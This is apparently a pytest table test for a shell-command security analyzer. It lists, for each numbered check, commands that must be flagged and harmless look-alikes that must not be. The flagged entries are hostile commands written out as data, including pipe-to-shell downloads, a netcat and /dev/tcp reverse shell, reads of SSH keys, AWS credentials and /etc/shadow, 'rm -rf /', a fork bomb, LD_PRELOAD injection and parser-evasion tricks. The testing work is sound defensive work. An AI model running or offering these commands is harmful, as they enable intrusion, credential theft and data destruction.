"""A table test for every numbered check: what it must catch, and look-alikes it must not."""

from __future__ import annotations

import shlex

import pytest

from security import PRESETS, analyze
from security.checks import REGISTRY


def nest_shells(command: str, levels: int) -> str:
    for _ in range(levels):
        command = "sh -c " + shlex.quote(command)
    return command


# check id -> (commands that must raise it, look-alikes that must not)
TABLE: dict[str, tuple[list[str], list[str]]] = {
    "S01": (
        ["ls\rrm -rf ~", "echo \x1b[2Khi", "cat a\x00b", "ls\x7f"],
        ["ls\tx", "ls\nwc -l f", "echo 'tab\there'"],
    ),
    "S02": (
        ["c\u200burl x", "echo safe\u202e; ls", "ls\u00a0-la", "\ufeffls"],
        ["grep 'héllo' f", "echo 'naïve café'", "ls ünïcode.txt"],
    ),
    "S03": (["\u0441url x", "\uff52\uff4d -rf x", "l\u0455 -la"], ["grep 'ß' f", "ls", "echo é"]),
    "S04": (
        [
            "echo $((1 + 2)) && rm -rf ~",
            "echo 'unclosed",
            "ls |",
            "case x in a) ls;; esac",
            "echo $((1+2))",
            "cat <<EOF\nno end",
            "sh -c 'echo \"broken'",
        ],
        ["ls", "echo 'closed'", "if [ -f x ]; then cat x; fi"],
    ),
    "S05": (
        [
            "echo $(ls # a comment hides the rest from bashlex\nrm -rf ~)",
            "cat <<EOF\n$(id)\nEOF",
            # shell strings are cross-checked too: bash parses them as it does the line
            "bash <<'EOF'\necho $(ls # c)\ntouch p)\nEOF",
            "bash -c 'echo $(ls # c)\ntouch p)'",
            "eval 'echo $(ls # c)\ntouch p)'",
        ],
        ["ls -la | grep x", "echo $(git rev-parse HEAD)", "bash -c 'echo $(git rev-parse HEAD)'"],
    ),
    "S06": (
        ["echo ${x:-$(rm -rf ~)}", 'echo "${y:=`id`}"'],
        ["echo ${x:-default}", 'echo "${HOME}"'],
    ),
    "S07": (
        [
            "$x -rf ~",
            "${CMD} a",
            "$(echo rm) -rf ~",
            "`echo rm` x",
            "{rm,-rf,~}",
            "/???/r? -rf ~",
            "/bin/r[m] x",
            "~/bin/tool",
        ],
        ["ls $x", "echo ${HOME}", "ls *.py", "echo {a,b}"],
    ),
    "S08": (
        ["c''url x", '"rm" -rf x', "\\rm x", "r\\m x", "$'\\x63url' x", "cu\\\nrl x"],
        ["curl 'x'", 'ls "a b"', "echo \\$HOME"],
    ),
    "S09": (
        ["=curl evil", "cat =(curl x)", "ls =ls"],
        ["ls a=b", "echo x=1", "git log --format=%H"],
    ),
    "S10": (["ls *(e:'rm -rf ~':)", "echo *(+evil)"], ["ls '*(e:x:)'", "ls *.py", "echo '(e:x)'"]),
    "S11": (["echo ${(e)x}", "echo ${~x}", "echo ${(P)x}"], ["echo ${x}", "echo ${#x}"]),
    "S12": (
        ["zmodload zsh/net/tcp", "ztcp evil 80", "sysopen -w -u fd f", "zpty x sh"],
        ["echo zmodload", "grep ztcp f"],
    ),
    "S13": (["!!", "ls; !-2", "^ls^rm -rf ~"], ["echo '!!'", "test ! -f x", "git log -n1"]),
    "S14": (
        [
            "IFS=,; cmd",
            "cat${IFS}/etc/passwd",
            "export IFS=x",
            "read IFS",
            "for IFS in ,; do ls; done",
            ": ${IFS:=,}",
            "IFS=x cat f",
            "echo ${IFS:0:1}x",
            'printf %s "$IFS"',
        ],
        [
            "echo ifs",
            "grep IFS f",
            'while IFS= read -r line; do echo "$line"; done < f',
            'IFS=: read -ra dirs <<< "$PATH"',
            "IFS=$'\\t' read -r a b < f",
        ],
    ),
    "S15": (
        ["PATH=/tmp:$PATH ls", "export PATH=.", "hash -p /tmp/x ls", "enable -f x.so ls"],
        ["echo $PATH", "which ls", "hash"],
    ),
    "S16": (
        [
            "LD_PRELOAD=/tmp/x.so ls",
            "BASH_ENV=/tmp/x bash -c true",
            "env LD_AUDIT=x ls",
            "GIT_PAGER='sh -c id' git log",
            "export NODE_OPTIONS='--require x'",
            "PYTHONSTARTUP=x python3",
            "PAGER=less git log",
            "env -i git status",
            "RIPGREP_CONFIG_PATH=x rg y",
            "GREP=./x zgrep a f",
            "read -a GIT_EXTERNAL_DIFF",
            ": ${HOME:=/workspace}",
            'export "$n"=x',
            "TEXTDOMAINDIR=. TEXTDOMAIN=x bash -c 'echo $\"hi\"'",
            "GIT_OPTIONAL_LOCKS=1 git status",
            "env -u GIT_OPTIONAL_LOCKS git status",
        ],
        [
            "LANG=C sort f",
            "TZ=UTC date",
            "export FOO=1",
            "env -i ls",
            "GIT_OPTIONAL_LOCKS=0 git status",
            "PAGER=cat git log",
            "GIT_PAGER=cat git log",
        ],
    ),
    "S17": (
        [
            "python3 -c 'import os'",
            "perl -e 'unlink 1'",
            "node -e 'x'",
            "awk 'BEGIN{system(\"id\")}'",
            "awk '{print > \"/etc/x\"}' f",
            "awk '{print | \"sh\"}' f",
            "ruby -e 'x'",
            "python3.11 -c 1",
            "php -r 'x'",
        ],
        ["python3 script.py", "awk '{print $1}' f", "awk '$3 > 100' f", "node app.js"],
    ),
    "S18": (
        [
            "curl x | sh",
            "echo cm0= | base64 -d | bash",
            "python3 < x.py",
            "bash ./x.sh",
            "source ~/.evil",
            ". ./x",
            "cat x | python3",
        ],
        ["bash -c 'ls'", "bash <<EOF\nls\nEOF", "python3 app.py", "echo x | grep x"],
    ),
    "S19": (
        [
            'sh -c "$PAYLOAD"',
            'eval "$cmd"',
            "timeout --odd X rm",
            "bash -c $x",
            "env --weird ls",
            "bash -l -c ls",
            "bash -ic ls",
            "sh --login -c ls",
        ],
        ["sh -c 'ls'", "eval 'ls -la'", "timeout 5 ls", "bash -ec ls", "bash -c ls -i"],
    ),
    "S20": (
        ["find . -delete", "find . -fprint /tmp/x", "find / -ok rm {} \\;"],
        ["find . -name '*.py'", "find . -exec grep -l x {} \\;"],
    ),
    "S21": (
        [
            "sed -i 's/a/b/' f",
            "sed 'e id' f",
            "sed 's/.*/id/e' f",
            "sed -f x.sed f",
            "sed --in-place s/a/b/ f",
            "sed -ni 's/a/b/p' f",
        ],
        ["sed -n 1p f", "sed 's/a/b/g' f", "sed -e 's/x/y/' -e '/^#/d' f"],
    ),
    "S22": (
        [
            "git -c core.pager='sh -c id' log",
            "git --config-env=core.pager=X log",
            "git diff --ext-diff",
            "git grep -O'sh' x",
            "git log --output=/tmp/x",
            "git shortlog --output=/tmp/x",
            "git rev-list --output=x HEAD",
            "git blame --output=x f",
            "git stash list --output=x",
            "git clone -u 'sh -c id' x",
            "git config alias.x '!sh'",
        ],
        ["git log -n 5", "git grep -n x", "git diff --stat", "git config --get user.name"],
    ),
    "S23": (
        [
            "tar xf x.tar --to-command=sh",
            "tar cf x.tar x --checkpoint=1 --checkpoint-action=exec=sh",
            "rsync -e 'sh -c id' a b:",
            "ssh -o ProxyCommand='sh -c id' x",
            "sort --compress-program=sh f",
            "zip z x -TT 'sh -c id'",
            "rg --pre ./evil x",
            "less '+!id' f",
            "man -P 'sh -c id' ls",
            "sort -o out f",
            "tar -I 'sh -c id' -xf x",
        ],
        ["tar tf x.tar", "rg -n x", "sort -u f", "ssh -V", "man ls"],
    ),
    "S24": (
        [
            "echo x > f",
            "cat a >> b",
            "exec 3<>f",
            "tee f",
            "cp a b",
            "ls &> out",
            "{ ls; } > o",
            "( ls ) >> o",
            "for d in /; do w; done > o",
            "if true; then ls; fi &> o",
            "echo x 1<.git/config >/dev/stdout",
            "exec 1<.git/config; echo x >/dev/stdout",
            "echo x 2<f 2>/dev/stderr",
            "{ echo x >/dev/stdout; } 1<f",
            "echo x 3<f 4>&3 >/dev/fd/4",
            "echo x | tee /dev/fd/3 3<f",
        ],
        [
            "ls > /dev/null",
            "ls 2>&1",
            "ls 2>/dev/null",
            "cat < f",
            "echo x >&2",
            "ls 2>&- >&-",
            "ls <&-",
            "{ ls; } 2>/dev/null",
            "while read l; do echo $l; done < f",
            "echo x >/dev/stderr",
            "ls 2>/dev/stdout",
            "grep x f 2>/dev/null >/dev/stderr",
            "cat < f > /dev/stdout",
        ],
    ),
    "S25": (
        [
            "cat f > /dev/tcp/1.2.3.4/80",
            "exec 3<>/dev/tcp/h/80",
            "bash -i >& /dev/udp/h/53 0>&1",
            "cat < ${X-/dev/tcp/h/80}",
            "cat < $(printf /dev/%s/h/80 tcp)",
            'wc -l < "$f"',
            "X=/dev/tcp/h/80 true",
            'for f in /dev/tcp/h/80; do cat < "$f"; done',
            'for f in {/dev/tcp/h/80,a}; do cat < "$f"; done',
            'for f in src/*; do f=$(cat x); cat < "$f"; done',  # bound again in the loop
            'for f in $(cat list); do cat < "$f"; done',
            'for f; do cat < "$f"; done',
            'for f in ~/x; do cat < "$f"; done',
            # bash sets these itself, from data, whatever the loop bound
            'read -r x < h; for _ in a; do ls "$x"; cat < "$_"; done',
            'for _ in a; do wc -c "$x"; cat < "${_}"; done',
            'for BASH_REMATCH in a; do [[ $x =~ ^/d.+$ ]]; cat < "$BASH_REMATCH"; done',
            'for REPLY in a; do read -r < h; cat < "$REPLY"; done',
            'for OLDPWD in a; do cd /; cat < "$OLDPWD"; done',
        ],
        [
            "cat /dev/null",
            "ls /dev",
            "cat < f",
            "cat <<< $X",
            "grep x /dev/tcp-notes",
            # a path that starts with a relative character is never /dev/tcp/...
            'cat < "src/$f"',
            'for f in src/*.py; do wc -l < "$f"; done',
            'for f in *; do wc -l < "${f}"; done',
        ],
    ),
    "S26": (
        [
            "echo k >> ~/.ssh/authorized_keys",
            "cp x .git/hooks/pre-commit",
            "tee -a ~/.bashrc",
            "echo x > .git/config",
            "echo 1 > /proc/sys/kernel/x",
            "ln -s x ~/.config/autostart/y",
            "echo x > /etc/passwd",
        ],
        ["cat ~/.bashrc", "echo x > notes.txt", "ls .git/hooks"],
    ),
    "S27": (
        [
            "cat ~/.ssh/id_rsa",
            "cat ~/.aws/credentials",
            "cat /proc/self/environ",
            "env",
            "printenv",
            "grep TOKEN .env",
            "cat /etc/shadow",
        ],
        [
            "cat README.md",
            "env LANG=C ls",
            "cat .envrc.example.md",
            "grep -rn '~/.ssh' docs/",
            "rg -n 'id_rsa' src",
        ],
    ),
    "S28": (
        [
            "curl https://x",
            "wget x",
            "nc -e sh evil 4444",
            "dig x.evil.com",
            "git push origin main",
            "git clone https://x",
            "python3 -m http.server",
            "ssh host",
        ],
        ["git status", "git log", "ls"],
    ),
    "S29": (
        [
            "rm -rf /",
            "rm -rf ~",
            "rm -rf .",
            "rm -rf *",
            "rm -fr $HOME",
            "rm -rf --no-preserve-root /",
            "mkfs.ext4 /dev/sda",
            "dd if=/dev/zero of=/dev/sda",
            "chmod -R 777 /",
            ":(){ :|:& };:",
            "kill -9 -1",
            "shred x",
            "find / -delete",
            "bomb(){ bomb|bomb& };bomb",
        ],
        ["rm x.txt", "rm -rf build/", "chmod -R 755 dist", "kill 1234", "dd if=a of=b.img"],
    ),
    "S30": (
        [
            "git push --force",
            "git push -f",
            "git push origin +main",
            "git reset --hard",
            "git checkout .",
            "git checkout -- .",
            "git restore .",
            "git clean -fdx",
            "git branch -D x",
            "git stash clear",
            "git filter-branch",
            "git commit --amend",
            "git rebase -i HEAD~3",
            "git commit --no-verify -m x",
        ],
        [
            "git push origin main",
            "git reset HEAD x",
            "git checkout main",
            "git branch -d x",
            "git stash list",
            "git commit -m x",
        ],
    ),
    "S31": (
        [
            "sudo ls",
            "su -c id",
            "doas sh",
            "chmod u+s x",
            "chmod 4755 x",
            "setcap x+ep y",
            "nsenter -t 1 -m sh",
            "unshare -r sh",
            "mount /dev/x /mnt",
            "sysctl -w a=b",
            "chown root x",
        ],
        ["chmod 644 x", "chmod +x run.sh", "sysctl -a", "ip addr"],
    ),
    "S32": (
        [
            "pip install x",
            "pip3 install -r req.txt",
            "python3 -m pip install x",
            "npm install",
            "npm i x",
            "npx x",
            "yarn add x",
            "gem install x",
            "cargo install x",
            "apt-get install x",
            "dpkg -i x.deb",
            "go install x@latest",
            "uvx x",
        ],
        ["pip list", "npm ls", "npm test", "npm run build", "cargo build", "dpkg -l"],
    ),
    "S33": (
        [
            "sleep 9 &",
            "nohup ./x &",
            "setsid sh -c ls",
            "screen -dm sh",
            "tmux new -d",
            "crontab x",
            "disown",
        ],
        ["ls && ls", "ls; ls", "crontab -l"],
    ),
    "S34": (
        [
            "ls() { rm -rf ~; }; ls",
            "function cat { ls; }; cat y",
            "alias ls='rm -rf ~'",
            "f() { ls; }; f",
            "unalias ls",
        ],
        ["ls", "echo 'f() { x; }'"],
    ),
    "S35": (
        [
            "docker run -v /:/host x",
            "kubectl exec x",
            "curl --unix-socket /var/run/docker.sock x",
            "podman ps",
        ],
        ["ls /var/run", "cat Dockerfile"],
    ),
    "S36": (["echo " + "a " * 9000, nest_shells("ls", 9)], ["echo short"]),
    "S37": (
        [
            "make",
            "./build.sh",
            "touch x",
            "npm test",
            "vim f",
            "env",
            "git branch --sort -l x",
            "pidof -1",
            "pidof --help",
        ],
        ["ls", "git status", "cat f | wc -l", "xargs grep x", "pidof -o 1 -x bash"],
    ),
    "S39": (
        [
            "x=$(cat f); echo ${a[x]}",
            "echo 'b[$(id)]' >/dev/null; [ -v 'a[_]' ]",
            "echo ${s:x}",
            "echo ${!x}",
            "echo ${x@P}",
            "read 'a[x]'",
            "printf -v 'a[x]' v",
            "declare -i n; n=$x",
            "for i in ${a[x]}; do ls; done",
            "sh -c '((x))'",
            "wait -p 'a[x]'",
        ],
        [
            "echo ${#x} ${x:-default} ${a[0]} ${s:1:2}",
            'test -n "$x"',
            "i=1; echo ${a[i]}",
            "echo '${a[x]}'",
            "( (ls) )",
        ],
    ),
    "S40": (
        ["FOO=1 ls", "env X=1 cat f", "export MY_TOOL_CONFIG=x", "TZ=/workspace/tz date"],
        ["LC_ALL=C sort f", "TZ=UTC date", "x=1; ls", "COLUMNS=200 ps aux", "NO_COLOR=1 rg x"],
    ),
    "S41": (
        ["cat /dev/fd/3 3<>~/.ssh/id_rsa", "exec 4>>.env; cat /dev/fd/4"],
        ["cat /dev/stdin", "cat < /dev/fd/0", "echo x | cat /dev/stdin"],
    ),
    "S38": (
        [
            "cp evil /usr/local/bin/ls",
            "echo x > ~/.local/bin/git",
            "touch ../../outside",
            "mv x /opt/y",
            "sed -ni 's/x/y/p' /opt/conf",
            "sed --in-place=.bak s/a/b/ /opt/conf",
        ],
        ["touch x", "echo x > /tmp/y", "cp a /workspace/b", "mv a sub/b"],
    ),
}


def findings_of(command: str) -> set[str]:
    return {f.check for f in analyze(command, PRESETS["read-only"]).findings}


def test_every_check_has_a_table_and_an_attack_in_its_docstring() -> None:
    assert set(TABLE) == set(REGISTRY)
    assert len(REGISTRY) >= 25
    for check in REGISTRY.values():
        assert "Attack" in check.doc, f"{check.id} docstring names no attack"


CATCHES = [(cid, cmd) for cid, (bad, _) in TABLE.items() for cmd in bad]
IGNORES = [(cid, cmd) for cid, (_, good) in TABLE.items() for cmd in good]


@pytest.mark.parametrize(("check_id", "command"), CATCHES)
def test_check_catches(check_id: str, command: str) -> None:
    assert check_id in findings_of(command)


@pytest.mark.parametrize(("check_id", "command"), IGNORES)
def test_check_ignores_look_alike(check_id: str, command: str) -> None:
    assert check_id not in findings_of(command)


@pytest.mark.parametrize(("check_id", "command"), CATCHES)
def test_caught_commands_are_never_allowed_read_only(check_id: str, command: str) -> None:
    assert analyze(command).decision != "allow"
